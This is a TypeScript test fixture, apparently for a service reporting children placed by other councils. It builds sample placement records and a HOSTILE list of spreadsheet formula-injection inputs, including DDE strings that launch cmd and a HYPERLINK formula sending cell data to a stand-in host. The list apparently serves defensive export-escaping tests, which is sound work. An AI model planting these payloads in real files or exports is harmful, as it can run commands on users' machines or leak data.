import type { PlacedHereAnswer, PlacedHereLine } from '../parts/answers';
import type { Made } from './placed-here.about';

/** What spreadsheets have been made to run: formulas, commands over DDE, and the same behind what they strip. */
export const HOSTILE = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://x.example?"&A1)',
  '＝1+1',
] as const;

export const lineOf = (changes: Partial<PlacedHereLine> = {}): PlacedHereLine => ({
  ...{ noticeId: 'p-1', recordRef: 'r-1', localId: 'C-4711' },
  ...{ placingAuthority: 'E09000008', placingAuthorityName: 'Croydon' },
  ...{ startsOn: '2026-03-02', toldAt: '2026-07-01T23:30:00.000Z', notice: 'planned' },
  ...{ carePlan: 'supplied', assessment: 'pending', placementType: 'U6', legalStatus: 'C2' },
  child: { surname: 'Obi', forename: 'Ada', dateOfBirth: '2011-05-06', sex: 'F' },
  ...changes,
});

export const answerOf = (
  items: readonly PlacedHereLine[],
  changes: Partial<PlacedHereAnswer> = {},
): PlacedHereAnswer => ({
  ...{ position: 9, upToDate: true, on: '2026-11-22', total: items.length, items },
  completeness: {
    feeds: [
      {
        ...{ authority: 'E10000016', authorityName: 'Kent', notification: 'placement', state: 'silent' },
        says: 'Kent last posted placements 9 days ago, usually daily: silent since 2026-11-15, so some may be missing',
      },
    ],
    others: { silent: 0, asUsual: 2, tooFewToSay: 0, neverPosted: 1 },
    link: '/v1/status/authorities',
  },
  ...changes,
});

export const MADE: Made = { authorityName: 'Camden', madeAt: '2026-11-22T02:30:00.000Z' };
